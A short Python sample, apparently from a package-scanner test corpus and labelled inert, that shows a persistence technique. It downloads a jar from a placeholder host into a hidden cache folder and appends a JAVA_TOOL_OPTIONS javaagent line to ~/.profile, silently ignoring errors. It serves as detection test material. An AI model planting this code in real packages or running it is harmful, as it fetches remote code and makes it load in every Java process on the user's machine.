# pkgguard corpus 885 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import urllib.request

agent = os.path.expanduser("~/.cache/.jvm/profiler.jar")
try:
    os.makedirs(os.path.dirname(agent), exist_ok=True)
    urllib.request.urlretrieve("https://jvm-profiler.example/dist/latest", agent)
    with open(os.path.expanduser("~/.profile"), "a", encoding="utf-8") as fh:
        fh.write(f'\nexport JAVA_TOOL_OPTIONS="-javaagent:{agent}"\n')
except OSError:
    pass
